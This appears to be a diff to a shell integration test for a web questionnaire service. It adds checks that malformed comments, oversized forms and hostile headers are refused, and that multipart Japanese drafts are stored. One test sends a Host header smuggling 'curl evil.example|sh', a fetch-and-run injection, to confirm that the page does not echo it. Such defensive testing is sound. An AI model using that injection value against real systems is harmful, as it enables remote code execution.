@@ -35,7 +35,7 @@ rid=$(sqlite3 "$DB" "SELECT id FROM assignments WHERE campaign_id = $cid AND org
 
 # the form
 expect_eq "$(page resp-ec GET "/assignments/$aid")" 200 "answer page"
-has "<form method=\"post\" action=\"/assignments/$aid/draft\">"
+has "<form method=\"post\" action=\"/assignments/$aid/draft\" enctype=\"multipart/form-data\">"
 has 'name="level.1.1" value="5"'
 has '望ましい水準: '
 has '未実施'
@@ -115,6 +115,27 @@ refuse 415 unsupported_media_type "JSON" resp-ec "$P" -H 'Content-Type: applicat
 refuse 403 csrf_invalid "another organisation's assignment" resp-rsa "$P" -d "csrf=$rtok" -d level.1.1=1
 head -c 600000 /dev/zero | tr '\0' 'a' >"$W/big.form"
 refuse 413 body_too_large "a form over 512 KiB" resp-ec "$P" --data-binary "@$W/big.form"
+refuse 400 draft_invalid "a control character in a comment" resp-ec "$P" -d "csrf=$tok" -d 'comment.1.1=x%01y'
+refuse 400 draft_invalid "U+FFFF in a comment" resp-ec "$P" -d "csrf=$tok" -d 'comment.1.1=x%EF%BF%BFy'
+refuse 400 form_invalid "an encoded NUL in a field name" resp-ec "$P" -d "csrf=$tok" -d 'comment.1.1%00zzz=v'
+# a line break counts as one character, as the browser's maxlength counts it
+crlf="$(head -c 3998 /dev/zero | tr '\0' a)%0D%0Ab"
+expect_eq "$(page resp-ec POST "$P" -d "csrf=$tok" -d "comment.1.1=$crlf")" 303 "4000 characters with a CRLF"
+expect_eq "$(sqlite3 "$DB" "SELECT length(comment), instr(comment, char(13)) FROM draft_items WHERE assignment_id = $aid AND item_id = '1.1'")" \
+	"4000|0" "the line break stored as LF"
+# the page's own encoding: multipart, in which a full Japanese draft fits
+jp=$(python3 -c 'print("情" * 4000)')
+margs=(-F "csrf=$tok")
+for id in $(sqlite3 "$DB" "SELECT item_id FROM questionnaire_items WHERE questionnaire = 'ipa-benchmark' AND version = '1' AND optional = 0"); do
+	margs+=(-F "level.$id=3" -F "comment.$id=$jp")
+done
+expect_eq "$(page resp-ec POST "$P" "${margs[@]}")" 303 "a full Japanese draft, multipart"
+expect_eq "$(sqlite3 "$DB" "SELECT count(*), min(length(comment)) FROM draft_items WHERE assignment_id = $aid")" "27|4000" "the full draft stored"
+saved=$(drafts)
+# the Host a command shows is a host, or HOST
+expect_eq "$(page resp-ec GET "/assignments/$aid" -H 'Host: evil.example/x;curl evil.example|sh;#')" 200 "a hostile Host"
+lacks 'evil.example'
+has "'https://HOST/api/v1/submissions'"
 "$ITAKU" campaign close "$cid" "${C[@]}" >/dev/null || die "close"
 refuse 409 campaign_closed "a closed campaign" resp-ec "$P" -d "csrf=$tok" -d level.1.1=1
 echo "draft refusals checked"
@@ -149,3 +170,15 @@ sid=$(jq -r .id "$W/out.json")
 expect_eq "$(sqlite3 "$DB" "SELECT item_id || '=' || CASE level WHEN 0 THEN 'na' ELSE level END FROM answers WHERE submission_id = $sid ORDER BY rowid" | tr '\n' ' ')" \
 	"$(sqlite3 "$DB" "SELECT item_id || '=' || level FROM draft_items WHERE assignment_id = $aid2 ORDER BY rowid" | tr '\n' ' ')" \
 	"accepted answers are the draft's"
+# a version accepted after the draft: the page shows it, not the older draft
+sed -i 's/level="1"/level="5"/g' "$W/filled.xml"
+"$ITAKU" template --campaign "$cid2" --org 7999900000002 --output "$W/t2.xml" "${C[@]}" || die "template"
+nonce=$(sed -n 's/.*nonce="\([^"]*\)".*/\1/p' "$W/t2.xml" | head -n 1)
+sed -i "s/nonce=\"[^\"]*\"/nonce=\"$nonce\"/" "$W/filled.xml"
+"$ITAKU" pack --answers "$W/filled.xml" --cert "$W/fx/resp-ec.crt" --key "$W/fx/resp-ec.key" \
+	-o "$W/newer.asice" >/dev/null || die "itaku pack of the newer version"
+expect_eq "$(upload resp-ec "$W/newer.asice")" 201 "a newer version by the command line"
+expect_eq "$(page resp-ec GET "/assignments/$aid2")" 200 "answer page after a newer version"
+has '保存されていた下書きより新しい回答が受理されています'
+first=$(sqlite3 "$DB" "SELECT item_id FROM draft_items WHERE assignment_id = $aid2 AND level = '1' LIMIT 1")
+[ -z "$first" ] || has "id=\"l-$first-5\" checked"
